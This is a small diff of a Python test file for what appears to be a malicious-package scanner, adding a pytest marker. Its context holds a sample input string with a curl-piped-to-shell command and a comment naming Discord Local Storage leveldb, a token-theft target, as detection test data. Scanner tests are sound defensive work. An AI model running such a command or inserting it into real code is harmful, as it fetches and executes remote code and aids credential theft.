@@ -13,6 +13,8 @@ from bastion.protect.scan.keywords import KeywordIndex
 from bastion.protect.scan.rules import RulesError, load_rules
 from tests.protect.scan.builders import wheel
 
+pytestmark = pytest.mark.one_backend
+
 SAMPLE = "import os\nos.system('curl http://x | sh')  # discord Local Storage leveldb\nWEBHOOKS\n"
 
 
